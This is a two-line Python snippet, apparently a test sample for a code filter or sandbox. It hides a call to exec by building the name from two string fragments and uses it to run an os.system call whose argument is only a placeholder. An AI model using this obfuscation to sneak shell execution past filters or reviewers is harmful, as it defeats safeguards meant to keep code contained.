import builtins
getattr(builtins, 'ex' + 'ec')('import os; os.system(1)')
